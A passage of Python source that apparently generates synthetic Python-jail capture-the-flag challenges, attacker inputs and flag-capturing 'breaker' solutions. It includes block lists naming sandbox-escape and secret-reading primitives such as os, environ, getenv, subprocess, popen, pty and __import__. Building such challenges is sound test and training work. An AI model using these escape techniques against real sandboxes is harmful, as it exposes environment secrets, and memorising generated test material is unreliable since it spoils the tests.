        sols = [s for s in _solutions(info.rules) if s.level <= tech.sophistication + 1e-9]
        if sols:
            featured = [s for s in sols if _features(s.tricks, tech.name)] or sols
            sol = _one_of_simplest(featured, rng)
            return _variant(info.rules, sol, rng, tech.sophistication + 1e-9)
    return _generic_probe(tech, rng)


def breaker(info: JailInfo, rng: np.random.Generator) -> str:
    """An input that captures the flag on the jail ``info`` describes (one of its simplest)."""
    sols = _solutions(info.rules)
    if not sols:
        raise ValueError("these rules leave no way to the flag")
    sol = _one_of_simplest([s for s in sols if s.level <= sols[0].level + 1e-9], rng)
    return _variant(info.rules, sol, rng, sol.level + 1e-9)


_SITUATIONAL = frozenset({"short", "second_stage", "decorators"})
"""Techniques that only work on jails of a particular shape (a scope that holds ``os``, a
truncation, exec mode): tried last by an attacker who cannot see the jail."""


def attack_inputs(skill: float, info: JailInfo | None, n: int, rng: np.random.Generator,
                  noise: float = 0.05) -> list[str]:
    """``n`` distinct inputs an attacker of ``skill`` tries before finding the break.

    The attacker knows the techniques whose sophistication is at most ``skill`` plus a little
    normal noise (sd ``noise``) and tries them most sophisticated first, each fitted to the
    jail's rules when ``info`` is given. Without ``info`` (the source is hidden, or not one of
    this module's jails) the generic forms are tried, the situational techniques
    (:data:`_SITUATIONAL`) after the others. When the known techniques are exhausted it tries
    further variants of them.
    """
    if n <= 0:
        return []
    known = [t for t in TECHNIQUES if t.sophistication <= skill + float(rng.normal(0.0, noise))]
    known = sorted(known or TECHNIQUES[:1], key=lambda t: -t.sophistication)
    if info is None:
        known = ([t for t in known if t.name not in _SITUATIONAL]
                 + [t for t in known if t.name in _SITUATIONAL])
    out: list[str] = []
    for i in range(4 * n):
        text = probe(known[i % len(known)], info, rng)
        if text not in out:
            out.append(text)
            if len(out) == n:
                break
    return out


# ---------------------------------------------------------------------------
# Writing jails
# ---------------------------------------------------------------------------

# Names of the constants that state the rules (one pool per role; the reader knows them all).
_WORDS_CONST = ("BANNED", "BLOCKLIST", "FORBIDDEN", "BAD_WORDS", "DENYLIST", "BANNED_WORDS",
                "FORBIDDEN_WORDS", "BLOCKED_WORDS", "NAUGHTY_WORDS", "STOPWORDS", "TABOO",
                "DISALLOWED")
_CHARS_CONST = ("BANNED_CHARS", "BAD_CHARS", "FORBIDDEN_CHARS", "BLOCKED_CHARS", "ILLEGAL_CHARS",
                "DENIED_CHARS", "BANNED_SYMBOLS", "FORBIDDEN_SYMBOLS", "TABOO_CHARS")
_LEN_CONST = ("MAX_LEN", "MAX_LENGTH", "LIMIT", "MAX_CHARS", "BUDGET", "MAX_INPUT", "CHAR_LIMIT",
              "LENGTH_LIMIT", "MAX_SIZE", "CAP")
_NODES_CONST = ("BANNED_NODES", "FORBIDDEN_NODES", "BLOCKED_NODES", "DENIED_NODES",
                "ILLEGAL_NODES", "BAD_NODES", "FORBIDDEN_SYNTAX", "BANNED_SYNTAX")
_NAMES_CONST = ("BANNED_NAMES", "FORBIDDEN_NAMES", "BLOCKED_NAMES", "DENIED_NAMES", "BAD_NAMES",
                "ILLEGAL_NAMES", "FORBIDDEN_IDENTIFIERS", "TABOO_NAMES")
_STRS_CONST = ("ALLOW_STRINGS", "ALLOW_STR_LITERALS", "STRINGS_OK", "PERMIT_STRINGS",
               "ALLOW_TEXT_LITERALS")
_SAFE_CONST = ("SAFE_BUILTINS", "ALLOWED_BUILTINS", "PERMITTED_BUILTINS", "TOOLBOX", "SAFE_NAMES",
               "KEPT_BUILTINS")

# Names of the functions and classes a jail may define next to ``jail`` (the reader knows them).
_HELPERS = ("redact", "censor", "scrub", "hide_flag", "sanitize", "mask_flag", "strip_secret",
            "launder", "clean_output", "bleep", "conceal")
"""The censoring function: it reads the flag and cuts it out of a text."""
_REFUSE_FUNCS = ("refuse", "deny", "reject", "bounce", "turn_away", "say_no")
_BANNER_FUNCS = ("banner", "motd", "greeting", "welcome", "title_card")
_CHECK_FUNCS = {
    "len": ("too_long", "over_limit", "exceeds_limit", "is_too_long", "over_budget",
            "check_length"),
    "ascii": ("not_ascii", "has_unicode", "check_ascii"),
    "words": ("has_banned_word", "mentions_forbidden", "contains_bad_word", "bad_word_in",
              "uses_banned_word", "check_words"),
    "chars": ("has_bad_char", "uses_forbidden_char", "bad_chars_in", "contains_banned_char",
              "has_illegal_symbol", "check_chars"),
    "ast": ("audit", "check_tree", "scan_tree", "find_violation", "vet_tree", "inspect_tree"),
}
_VALIDATORS = ("validate", "screen", "examine", "vet", "gatekeep", "first_problem",
               "check_input", "inspect")
_RUN_FUNCS = ("execute", "run_code", "evaluate", "perform", "sandboxed", "run_attempt")
_GUARD_CLASSES = ("Guard", "Warden", "Gatekeeper", "Bouncer", "Inspector", "Checkpoint", "Sentry",
                  "Turnstile", "Customs", "Doorman")
_EXC_CLASSES = ("Rejected", "Denied", "Violation", "Refused", "Blocked", "NotAllowed", "Caught")

# Local names.
_CODE_VARS = ("code", "src", "payload", "expr", "text", "cmd", "attempt", "entry", "submission",
              "candidate", "snippet", "program", "query")
_OUT_VARS = ("out", "sink", "buf", "captured", "stdout_buf", "capture", "spool")
_ERR_VARS = ("err", "errbuf", "noise", "stderr_buf", "swallowed", "trash")
_RES_VARS = ("result", "value", "res", "answer", "outcome", "ret")
_EXC_VARS = ("exc", "e", "error", "boom", "oops", "failure")
_WHY_VARS = ("why", "reason", "problem", "verdict", "complaint", "issue", "msg")
_TREE_VARS = ("tree", "parsed", "syntax", "module", "ast_tree", "node_tree")
_NODE_VARS = ("node", "n", "part", "piece", "child", "item", "sub")
_WORD_VARS = ("word", "w", "bad", "needle", "term", "token")
_CHAR_VARS = ("ch", "c", "char", "symbol", "letter")
_ENV_VARS = ("env", "namespace", "scope", "ns", "sandbox_globals", "context")
_LOWER_VARS = ("lowered", "folded", "haystack", "low", "normalized")
_HITS_VARS = ("hits", "found", "matches", "offenders", "caught")
_SIZE_VARS = ("size", "n_chars", "length", "count")
_PARAM_VARS = ("text", "source", "s", "data", "raw", "attempt_text")
_GUARD_VARS = ("guard", "warden", "checker", "gate", "bouncer", "officer")
_SHOWN_VARS = ("shown", "reply", "report", "transcript", "response")
_SECRET_VARS = ("secret", "flag", "hidden", "the_flag", "needle_flag")
_RULE_VARS = ("rule", "test", "step", "check_fn", "gate_fn")
_PRINTED_VARS = ("printed", "stdout_text", "chatter", "output")

# Wording.
_MSG_LONG = ("too long", "Input too long.", "nope: too long", "Keep it short.",
             "That is way too long.", "Length limit exceeded.", "Too many characters.",
             "Brevity, please.", "Over the limit.", "Shorter, please.")
_MSG_LONG_PREFIX = ("too long", "length", "characters used", "over the limit")
_MSG_ASCII = ("ASCII only.", "plain ASCII please", "Non-ASCII input refused.")
_MSG_WORD = ("Blocked.", "Forbidden word detected.", "nice try", "Watch your language.",
             "That word is off limits.", "Denied: banned word.", "Not on my watch.", "Bad word.")
_MSG_WORD_PREFIX = ("blocked word", "forbidden", "not allowed", "banned word", "off-limits word",
                    "taboo", "you may not say")
_MSG_CHAR = ("Bad characters.", "Character not allowed.", "Mind your punctuation.",
             "Forbidden symbol.", "Illegal character.", "Those characters stay outside.")
_MSG_CHAR_PREFIX = ("bad character", "forbidden character", "illegal symbol", "banned char",
                    "not allowed")
_MSG_SYNTAX = ("syntax error", "That is not Python.", "parse error", "Could not parse that.",
               "Invalid syntax.", "Speak Python, please.", "Unparseable input.", "Gibberish.")
_MSG_NODE_PREFIX = ("forbidden syntax", "not allowed", "banned node", "illegal construct",
                    "construct refused", "no")
_MSG_NAME_PREFIX = ("forbidden name", "name not allowed", "banned name", "illegal identifier",
                    "off-limits name")
_MSG_STR = ("no strings", "String literals are not allowed.", "No quotes, no strings.",
            "Strings are banned.", "Text literals refused.")
_MSG_GENERIC = ("Refused.", "Rejected.", "Access denied.", "Not today.", "The guard says no.",
                "Input refused.", "Try harder.")
_DONE = ("ok", "done", "Executed.", "ran", "Done.", "Finished.", "Your code ran.",
         "Executed without incident.", "Nothing to report.", "Completed.", "Statement executed.")
_MASKS = ("[REDACTED]", "<censored>", "[CENSORED]", "<flag>", "[hidden]", "???", "*", "X", "~")
"""What the flag is replaced with; a single character is repeated to the flag's length."""
_HELPER_DOCS = ("Hide the flag from whatever comes back.", "Never show the flag.",
                "Scrub the secret out.", "Replace every copy of the flag.",
                "Cut the secret out of the text.", "Make sure the flag stays hidden.")
_JAIL_DOCS = ("Run one attempt if it passes the checks.", "Evaluate the input and report back.",
              "The entry point: one input, one answer.", "Check the input, then run it.",
              "Judge the attempt and maybe run it.", "Return what the attempt produced.")
_CHECK_DOCS = ("Return why the attempt is refused, or None.", "The first reason to refuse, if any.",
               "Check everything; report the first problem.", "Say what is wrong with the input.")
_CLASS_DOCS = ("Checks one attempt before it may run.", "Stands at the door and reads inputs.",
               "Everything the jail refuses, in one place.")
_RUN_DOCS = ("Run it and report back.", "Execute, capture, censor.")
_EXC_DOCS = ("Raised when an attempt breaks a rule.", "An attempt the jail refuses.",
             "The input was turned away.")
_TITLES = {
    "names": ("Word jail: some words are simply not allowed.", "No bad words, no flag.",
              "The blocklist jail.", "A jail with a vocabulary problem.",
              "{Place}, where certain words are never spoken.", "Mind your language in {place}.",
              "The forbidden-words jail of {place}.", "Speak carefully; {guard} is listening."),
    "characters": ("Character jail: mind your punctuation.", "Some characters are off limits.",
                   "A jail for the character-conscious.", "{Place} has no use for punctuation.",
                   "Every symbol is searched at the gate of {place}.",
                   "The character filter of {place}.",
                   "Certain keys have been pried off the keyboard."),
    "length": ("Short jail: keep it brief.", "Every character counts here.",
               "Length-limited evaluator.", "{Place} only has room for a few characters.",
               "Brevity is the soul of {place}.", "A tiny window into {place}.",
               "Short inputs only, says {guard}."),
    "ast": ("AST jail: your code is inspected before it runs.", "Syntax-checked evaluator.",
            "Only harmless syntax gets through.", "{Guard} parses everything you send.",
            "The syntax tree of every input is searched in {place}.",
            "A parser stands at the door of {place}.", "Tree inspection before execution."),
    "rewrite": ("Censoring jail: the flag never leaves.", "Output is scrubbed before you see it.",
                "Run anything; the secret is redacted.",
                "{Place} lets you run anything and shows you nothing.",
                "{Guard} reads every answer before you do.",
                "Anything goes in, nothing secret comes out.",
                "The redacting evaluator of {place}."),
}
_THEMES = (("the Vault", "the vault keeper", "VAULT"), ("Alcatraz", "the warden", "ALCATRAZ"),
           ("the Tower", "the tower guard", "TOWER"), ("the Oubliette", "the jailer", "OUBLIETTE"),
           ("Fort Byte", "the sergeant", "FORT"), ("the Sandpit", "the lifeguard", "SANDPIT"),
           ("the Panopticon", "the watcher", "PANOPTICON"),
           ("the Glass Cage", "the keeper", "CAGE"),
           ("the Lighthouse", "the lamplighter", "LIGHTHOUSE"),
           ("the Labyrinth", "the minotaur", "LABYRINTH"), ("the Bastion", "the sentry", "BASTION"),
           ("the Monastery", "the abbot", "MONASTERY"), ("the Submarine", "the captain", "SUB"),
           ("the Observatory", "the astronomer", "OBSERVATORY"),
           ("the Greenhouse", "the gardener", "GREENHOUSE"),
           ("the Archive", "the librarian", "ARCHIVE"), ("the Casino", "the pit boss", "CASINO"),
           ("the Zoo", "the zookeeper", "ZOO"), ("the Kitchen", "the head chef", "KITCHEN"),
           ("the Museum", "the curator", "MUSEUM"))
_STORY = ("Welcome to {place}.", "You are locked in {place}.", "{Guard} reads every line you send.",
          "The flag lives in the environment and would like to leave.",
          "Nobody has escaped {place} yet.", "Only the worthy leave {place} with the flag.",
          "{Guard} is bored and a little paranoid.",
          "Send one line of Python and hope for the best.", "Escape and the flag is yours.",
          "Everything you type is judged before it runs.",
          "The walls are thin but the rules are strict.", "Legend says there is a way out.",
          "Good luck, you will need it.", "Bring a payload and a plan.",
          "The last prisoner left only a note that said almost.",
          "Rumour has it {guard} never sleeps.",
          "Your input meets a very suspicious interpreter.",
          "There is exactly one flag and it is not in this file.", "Think twice, type once.",
          "Prisoners who read the source do better.")
_RULE_TEXT = {
    "len": ("- at most {c} characters", "- inputs longer than {c} are refused",
            "- {c} characters, not one more"),
    "trunc": ("- only the first {c} characters are kept",
              "- anything past {c} characters is cut off",
              "- input is truncated to {c} characters"),
    "ascii": ("- ASCII only",),
    "words": ("- no word from {c} may appear", "- the words in {c} are refused",
              "- {c} lists the words you may not use"),
    "chars": ("- the characters in {c} are refused", "- no symbol from {c}",
              "- {c} lists the characters you may not type"),
    "ast": ("- the syntax tree is inspected before it runs",
            "- forbidden constructs are found with the ast module",
            "- your code is parsed and searched first"),
    "eval": ("- expressions only", "- one expression, evaluated"),
    "exec": ("- statements are fine", "- whole programs are executed"),
    "nobuiltins": ("- no builtins at all", "- the builtins have been confiscated"),
    "fewbuiltins": ("- only a handful of builtins", "- builtins are rationed"),
    "censor1": ("- the flag is cut out of the answer", "- the answer is censored"),
    "censor2": ("- printed output is captured and censored too",
                "- whatever you print is censored as well"),
    "censor3": ("- errors are caught and censored as well",
                "- exceptions are swallowed and censored"),
    "censor4": ("- stderr is captured and even SystemExit is caught",
                "- every exception and every stream is censored"),
}
_RULE_HEADS = ("Rules:", "House rules:", "The rules:", "Restrictions:")
_FOOTERS = ("Author: {handle}", "Category: misc", "Category: pyjail", "Points: {points}",
            "Flag format: skate{{...}}", "Challenge by {handle}")
_HANDLES = ("jailbird", "0xwarden", "pwnguin", "snakecharmer", "byte_bandit", "rootkitten",
            "null_ptr", "sandcastle", "heapster", "evalyn")
_BANNERS = ("=== {Place} ===", "*** Welcome to {place} ***", "--- {Place} jail ---", "[ {Place} ]",
            "~~ {Place} ~~", "{Place}: abandon hope")
_PROMPTS = (">>> ", "> ", "jail> ", "$ ", "input: ", "payload> ", "?> ", "your move: ")
_FILENAMES = ("<jail>", "<input>", "<user>", "<sandbox>", "<string>", "<attempt>")

_EXTRA_WORDS = ("exec", "open", "system", "subprocess", "compile", "breakpoint", "popen", "spawn",
                "pty", "shutil")
_MINOR_CHARS = (";", "`", "$", "!", "&", "|", "~", "?")
_MINOR_NODES = ("Lambda", "NamedExpr", "Await", "Yield", "YieldFrom", "Starred", "SetComp",
                "JoinedStr")
_SAFE_POOL = ("abs", "len", "min", "max", "sorted", "str", "int", "print", "range", "sum",
              "repr", "round")



def _sample(rng: np.random.Generator, pool: Sequence[str], k: int) -> list[str]:
    k = max(0, min(k, len(pool)))
    return [pool[int(i)] for i in rng.choice(len(pool), size=k, replace=False)]


def _rules_for(kind: str, level: int, strength: float, rng: np.random.Generator) -> Rules:
    """The rules of a jail of ``kind`` at ``level`` (0..4), extras growing with ``strength``."""
    extra = 2 + round(strength * 3)
    if kind == "names":
        words = _sample(rng, _EXTRA_WORDS, extra)
        ignore = bool(rng.random() < 0.5)
        flag = "flag" if ignore else "FLAG"
        censor = 0
        if level >= 1:
            words += ["os", flag]
        if level >= 2:
            words += ["import", "environ", "eval", "getenv"]
            censor = int(rng.integers(0, 2))
        if level >= 3:
            words += ["getattr", "vars", "builtins", "__", "globals", "exec", "print", "chr"]
            censor = 1
        if level >= 4:
            words += ["sys", "stdout"]
            censor = 4
        words = list(dict.fromkeys(words))
        rng.shuffle(words)
        return Rules(banned_words=tuple(words), ignore_case=ignore, censor=censor)
    if kind == "characters":
        chars = _sample(rng, _MINOR_CHARS, extra)
        builtins: tuple[str, ...] | None = None
        words: list[str] = []
        if level in (1, 2, 3):
            chars.append(".")
        if level in (2, 3):
            chars += ["'", '"']
        if level == 3:
            chars.append("_")
            words = ["getattr"]
            if rng.random() < 0.5:
                chars.append("+")
        if level == 4:
            chars += ["+", "\\", rng.choice(["'", '"'])]
            builtins = ()
        return Rules(banned_chars="".join(dict.fromkeys(chars)), banned_words=tuple(words),
                     builtins=builtins)
    if kind == "length":
        if level == 0:
            return Rules(max_len=int(rng.integers(34, 49)))
        if level == 1:
            return Rules(max_len=int(rng.integers(24, 31)))
        if level == 2:
            scope = ("os",) if rng.random() < 0.5 else ("os", "user_input")
            return Rules(max_len=int(rng.integers(23, 27)), scope=scope, censor=3)
        return Rules(max_len=int(rng.integers(22, 31)), truncate=True, scope=("user_input",),
                     censor=3 if level == 3 else 4)
    if kind == "ast":
        nodes = _sample(rng, _MINOR_NODES, extra)
        if level == 0:
            return Rules(banned_nodes=tuple(nodes))
        if level == 1:
            return Rules(banned_nodes=tuple(nodes + ["Attribute"]))
        if level == 2:
            more = ["Subscript"] if rng.random() < 0.5 else []
            return Rules(banned_nodes=tuple(nodes + ["Attribute"] + more), no_strings=True)
        if level == 3:
            names = ["__import__", "eval", "exec", "compile", "getattr", "vars", "globals",
                     "locals", "open", "breakpoint", "__builtins__", "input", "help"]
            nodes = [n for n in nodes if n not in ("Lambda",)]
            return Rules(banned_nodes=tuple(nodes), banned_names=tuple(names), censor=1)
        nodes = [n for n in nodes if n not in ("Lambda",)]
        return Rules(mode="exec", banned_nodes=tuple(["Call", "Import", "ImportFrom"] + nodes))
    if kind == "rewrite":
        mode = "exec" if level >= 1 and rng.random() < 0.4 else "eval"
        censor = (1, 2, 3, 4, 4)[level]
        builtins = None
        if level == 4:
            builtins = () if rng.random() < 0.5 else tuple(_sample(rng, _SAFE_POOL, 6))
        return Rules(mode=mode, censor=censor, builtins=builtins)
    raise ValueError(f"unknown jail kind {kind!r}; known: {KINDS}")


def _level_of(strength: float) -> int:
    return int(min(max(strength, 0.0), 1.0) * (LEVELS - 1) + 0.5)


def _indent(lines: Iterable[str], depth: int = 1) -> list[str]:
    pad = "    " * depth
    return [pad + line if line else line for line in lines]


_MESSAGES = {"len": _MSG_LONG, "ascii": _MSG_ASCII, "words": _MSG_WORD, "chars": _MSG_CHAR}


class _Writer:
    """Renders rules as jail source, with every surface detail drawn from an rng.

    The rules fix what the jail does; the writer only picks how the source says it: an overall
    shape (checks inline in ``jail``, in predicate or reason functions, in one validator that
    returns or raises, in a guard class, or in one combined condition), one of several
    equivalent spellings of every check, of the run block and of the censoring helper, how the
    constants are written, the names of everything, the wording of the messages and the flavour
    text (docstring, refusal prefix, banner, a ``__main__`` block that the sandbox never runs).
    """

    def __init__(self, kind: str, rules: Rules, rng: np.random.Generator) -> None:
        self.kind, self.rules, self.rng = kind, rules, rng
        self.taken: set[str] = {"jail", "user_input", "os", "ast", "io", "contextlib", "builtins"}
        fresh = self.fresh
        self.names = {
            "words": fresh(_WORDS_CONST), "chars": fresh(_CHARS_CONST), "len": fresh(_LEN_CONST),
            "nodes": fresh(_NODES_CONST), "bnames": fresh(_NAMES_CONST), "strs": fresh(_STRS_CONST),
            "safe": fresh(_SAFE_CONST), "helper": fresh(_HELPERS), "code": fresh(_CODE_VARS),
            "out": fresh(_OUT_VARS), "err": fresh(_ERR_VARS), "res": fresh(_RES_VARS),
        }
        self.q = self.pick(("'", '"'))  # the quote the jail's string literals prefer
        self.fmt = self.pick(("f", "pct", "format", "plus"))  # how a message embeds a value
        self.typed = self.coin(0.65)  # annotations on the functions
        place, guard, tag = _THEMES[int(rng.integers(len(_THEMES)))]
        self.theme = {"place": place, "Place": place[0].upper() + place[1:], "guard": guard,
                      "Guard": guard[0].upper() + guard[1:], "tag": tag}
        self.from_imports = self.coin(0.35)  # from contextlib import redirect_stdout, ...
        self.refuse = fresh(_REFUSE_FUNCS) if self.coin(0.3) else None
        self.refuse_used = False
        self.nodes_form = self.pick(("isinstance", "type_in", "names"))
        self.uses_builtins = False
        self.defs: list[list[str]] = []  # top-level functions and classes besides jail
        self.traits: set[str] = set()  # the shapes and forms chosen (for the tests)

    # -- choices ---------------------------------------------------------------------------
    def pick(self, options: Sequence[Any]) -> Any:
        return options[int(self.rng.integers(len(options)))]

    def choose(self, what: str, options: Sequence[str]) -> str:
        """Pick one of several named forms of ``what``, and remember the choice."""
        choice = self.pick(options)
        self.traits.add(f"{what}:{choice}")
        return choice

    def coin(self, p: float = 0.5) -> bool:
        return bool(self.rng.random() < p)

    def fresh(self, pool: Sequence[str]) -> str:
        """A name from ``pool`` that nothing else in this jail uses yet."""
        free = [name for name in pool if name not in self.taken]
        name = self.pick(free) if free else f"{pool[0]}_{len(self.taken)}"
        self.taken.add(name)
        return name

    def local(self, pool: Sequence[str]) -> str:
        """A throwaway name (a loop or comprehension variable) clashing with no other name."""
        free = [name for name in pool if name not in self.taken]
        return self.pick(free) if free else self.fresh(pool)

    # -- literals, messages, signatures -------------------------------------------------------
    def lit(self, text: str) -> str:
        other = '"' if self.q == "'" else "'"
        for q in (self.q, other):
            if q not in text and "\\" not in text and "\n" not in text:
                return q + text + q
        return repr(text)

    def message(self, pool: Sequence[str]) -> str:
        return self.lit(self.pick(pool).format(**self.theme))

    def fmessage(self, pool: Sequence[str], value: str, conv: str = "r") -> str:
        """A message naming the value of ``value`` (an expression without quotes)."""
        prefix, q = self.pick(pool), self.q
        if self.fmt == "f":
            return f"f{q}{prefix}: {{{value}!{conv}}}{q}"
        if self.fmt == "pct":
            return f"{q}{prefix}: %{conv}{q} % ({value},)"
        if self.fmt == "format":
            return f"{q}{prefix}: {{!{conv}}}{q}.format({value})"
        return f"{q}{prefix}: {q} + {'repr' if conv == 'r' else 'str'}({value})"

    def refusal(self, expr: str) -> str:
        """The statement by which ``jail`` refuses with the message ``expr``."""
        if self.refuse:
            self.refuse_used = True
            return f"return {self.refuse}({expr})"
        return f"return {expr}"

    def sig(self, name: str, params: Sequence[tuple[str, str | None]], ret: str | None) -> str:
        if not self.typed:
            return f"def {name}({', '.join(p for p, _ in params)}):"
        args = ", ".join(p if t is None else f"{p}: {t}" for p, t in params)
        return f"def {name}({args}) -> {ret}:" if ret else f"def {name}({args}):"

    def doc(self, pool: Sequence[str], p: float = 0.5) -> list[str]:
        return [f'"""{self.pick(pool)}"""'] if self.coin(p) else []

    # -- constants -----------------------------------------------------------------------------
    def _items(self, items: Sequence[str], forms: Sequence[str], raw: bool = False) -> str:
        form = self.pick(forms)
        if form == "split":
            return f"{self.lit(' '.join(items))}.split()"
        body = [x if raw else repr(x) if x in ("'", '"', "\\") else self.lit(x) for x in items]
        opener, closer = {"list": ("[", "]"), "set": ("{", "}")}.get(form, ("(", ")"))
        one = form == "tuple" and len(body) == 1
        flat = opener + ", ".join(body) + ("," if one else "") + closer
        if len(flat) <= 72 or one or (len(flat) <= 100 and self.coin(0.3)):
            return flat
        if self.coin(0.4):  # one item a line
            return "\n".join([opener] + [f"    {b}," for b in body] + [closer])
        rows, row = [], ""
        for b in body:
            if row and len(row) + len(b) > 72:
                rows.append(row.rstrip())
                row = ""
            row += b + ", "
        rows.append(row.rstrip().rstrip(","))
        return "\n".join([opener] + [f"    {r}" for r in rows] + [closer])

    def constants(self) -> list[str]:
        r, n = self.rules, self.names
        blocks = []
        if r.banned_words:  # always a plain list or tuple: the words exactly as the jail has them
            blocks.append(f"{n['words']} = {self._items(r.banned_words, ('list', 'tuple'))}")
        if r.banned_chars:
            form = self.pick(("str", "str", "tuple", "list", "set"))
            value = (repr(r.banned_chars) if form == "str"
                     else self._items(list(r.banned_chars), (form,)))
            blocks.append(f"{n['chars']} = {value}")
        if r.max_len is not None:
            blocks.append(f"{n['len']} = {r.max_len}")
        if r.banned_nodes:
            classes = [f"ast.{x}" for x in r.banned_nodes]
            if self.nodes_form == "isinstance":
                value = self._items(classes, ("tuple",), raw=True)
            elif self.nodes_form == "type_in":
                value = self._items(classes, ("tuple", "list", "set"), raw=True)
            else:
                value = self._items(r.banned_nodes, ("tuple", "list", "set", "split"))
            blocks.append(f"{n['nodes']} = {value}")
        any_form = ("tuple", "list", "set", "split")
        if r.banned_names:
            blocks.append(f"{n['bnames']} = {self._items(r.banned_names, any_form)}")
        if r.no_strings:
            blocks.append(f"{n['strs']} = False")
        if r.builtins:
            blocks.append(f"{n['safe']} = {self._items(r.builtins, any_form)}")
        order = self.rng.permutation(len(blocks))
        return [blocks[int(i)] for i in order]

    # -- the input checks ------------------------------------------------------------------------
    def simple_checks(self) -> list[str]:
        r = self.rules
        out = []
        if r.max_len is not None and not r.truncate:
            out.append("len")
        if r.ascii_only:
            out.append("ascii")
        if r.banned_words:
            out.append("words")
        if r.banned_chars:
            out.append("chars")
        return [out[int(i)] for i in self.rng.permutation(len(out))]

    def bad(self, check: str, v: str, boolean: bool = True, target: str | None = None) -> str:
        """An expression that is true when the text ``v`` fails ``check`` (``target``: the text
        the words are looked for in, when the caller has already lower-cased it)."""
        n = self.names
        if check == "len":
            lim = n["len"]
            return self.pick((f"len({v}) > {lim}", f"{lim} < len({v})", f"not len({v}) <= {lim}"))
        if check == "ascii":
            return f"not {v}.isascii()"
        if check == "words":
            t = target or (f"{v}.lower()" if self.rules.ignore_case else v)
            words, w = n["words"], self.local(_WORD_VARS)
            options = [f"any({w} in {t} for {w} in {words})",
                       f"any(map({t}.__contains__, {words}))",
                       f"not all({w} not in {t} for {w} in {words})",
                       f"any({t}.find({w}) != -1 for {w} in {words})"]
            if not boolean:
                options.append(f"[{w} for {w} in {words} if {w} in {t}]")
            return self.pick(options)
        chars, c = n["chars"], self.local(_CHAR_VARS)
        options = [f"any({c} in {chars} for {c} in {v})", f"any({c} in {v} for {c} in {chars})",
                   f"not set({v}).isdisjoint({chars})"]
        if not boolean:
            options.append(f"set({v}) & set({chars})")
        return self.pick(options)

    def check_block(self, check: str, v: str, emit: Callable[[str], str]) -> list[str]:
        """Statements that end with ``emit(message)`` when the text ``v`` fails ``check``."""
        n = self.names
        if check == "len":
            if self.coin(0.3):
                size = self.fresh(_SIZE_VARS)
                return [f"{size} = len({v})", f"if {size} > {n['len']}:",
                        "    " + emit(self.fmessage(_MSG_LONG_PREFIX, size, "s"))]
            return [f"if {self.bad('len', v)}:", "    " + emit(self.message(_MSG_LONG))]
        if check == "ascii":
            return [f"if not {v}.isascii():", "    " + emit(self.message(_MSG_ASCII))]
        if check == "words":
            lines, t = [], v
            if self.rules.ignore_case:
                if self.coin(0.5):
                    t = self.fresh(_LOWER_VARS)
                    lines.append(f"{t} = {v}.lower()")
                else:
                    t = f"{v}.lower()"
            words, w = n["words"], self.local(_WORD_VARS)
            form = self.choose("words", ("loop", "any", "hits"))
            if form == "loop":
                test = self.pick((f"{w} in {t}", f"{t}.count({w})", f"{t}.find({w}) >= 0"))
                return lines + [f"for {w} in {words}:", f"    if {test}:",
                                "        " + emit(self.fmessage(_MSG_WORD_PREFIX, w))]
            if form == "any":
                return lines + [f"if {self.bad('words', v, target=t)}:",
                                "    " + emit(self.message(_MSG_WORD))]
            hits = self.fresh(_HITS_VARS)
            return lines + [f"{hits} = [{w} for {w} in {words} if {w} in {t}]", f"if {hits}:",
                            "    " + emit(self.fmessage(_MSG_WORD_PREFIX, hits, "s"))]
        chars, c = n["chars"], self.local(_CHAR_VARS)
        form = self.choose("chars", ("loop_in", "loop_set", "any", "found"))
        if form == "loop_in":
            return [f"for {c} in {v}:", f"    if {c} in {chars}:",
                    "        " + emit(self.fmessage(_MSG_CHAR_PREFIX, c))]
        if form == "loop_set":
            return [f"for {c} in {chars}:", f"    if {c} in {v}:",
                    "        " + emit(self.fmessage(_MSG_CHAR_PREFIX, c))]
        if form == "any":
            return [f"if {self.bad('chars', v)}:", "    " + emit(self.message(_MSG_CHAR))]
        found = self.fresh(_HITS_VARS)
        return [f"{found} = set({v}) & set({chars})", f"if {found}:",
                "    " + emit(self.fmessage(_MSG_CHAR_PREFIX, f"sorted({found})", "s"))]

    def ast_conditions(self, node: str) -> list[tuple[str, str]]:
        """(condition on ``node``, refusal message) for each syntax-tree rule."""
        r, n, pick = self.rules, self.names, self.pick
        out = []
        if r.banned_nodes:
            nodes = n["nodes"]
            if self.nodes_form == "isinstance":
                cond = f"isinstance({node}, {nodes})"
            elif self.nodes_form == "type_in":
                cond = pick((f"type({node}) in {nodes}", f"isinstance({node}, tuple({nodes}))"))
            else:
                cond = pick((f"type({node}).__name__ in {nodes}",
                             f"{node}.__class__.__name__ in {nodes}"))
            out.append((cond, self.fmessage(_MSG_NODE_PREFIX, f"type({node}).__name__", "s")))
        if r.banned_names:
            names = n["bnames"]
            cond = pick((f"isinstance({node}, ast.Name) and {node}.id in {names}",
                         f"type({node}) is ast.Name and {node}.id in {names}",
                         f"getattr({node}, {self.lit('id')}, None) in {names}"))
            out.append((cond, self.fmessage(_MSG_NAME_PREFIX, f"{node}.id", "s")))
        if r.no_strings:
            off, const = f"not {n['strs']}", f"isinstance({node}, ast.Constant)"
            exact, text = f"type({node}) is ast.Constant", f"isinstance({node}.value, str)"
            cond = pick((f"{off} and {const} and {text}",
                         f"{const} and type({node}.value) is str and {off}",
                         f"{off} and {exact} and {text}"))
            out.append((cond, self.message(_MSG_STR)))
        return out

    def parse_lines(self, v: str, tree: str, on_error: Callable[[str], list[str]]) -> list[str]:
        mode = self.lit(self.rules.mode)
        name = self.lit(self.pick(_FILENAMES))
        call = self.pick((f"ast.parse({v}, mode={mode})", f"ast.parse({v}, {name}, {mode})",
                          f"ast.parse({v}, filename={name}, mode={mode})"))
        return (["try:", f"    {tree} = {call}", "except SyntaxError:"]
                + _indent(on_error(self.message(_MSG_SYNTAX))))

    def walk_lines(self, tree: str, emit: Callable[[str], str]) -> list[str]:
        node = self.local(_NODE_VARS)
        conds = self.ast_conditions(node)
        form = self.choose("walk", ("separate", "combined", "finder"))
        if form == "separate":
            lines = [f"for {node} in ast.walk({tree}):"]
            for cond, msg in conds:
                lines += [f"    if {cond}:", "        " + emit(msg)]
            return lines
        parts = [c for c, _ in conds] if len(conds) == 1 else [f"({c})" for c, _ in conds]
        joined = " or ".join(parts)
        tall = len(parts) > 1 and (len(joined) > 60 or self.coin(0.4))  # one condition a line
        stacked = [("" if i == 0 else "or ") + c for i, c in enumerate(parts)]
        if form == "combined":
            msg = self.fmessage(_MSG_NODE_PREFIX, f"type({node}).__name__", "s")
            test = [f"    if {joined}:"]
            if tall:
                test = ["    if ("] + _indent(stacked, 2) + ["    ):"]
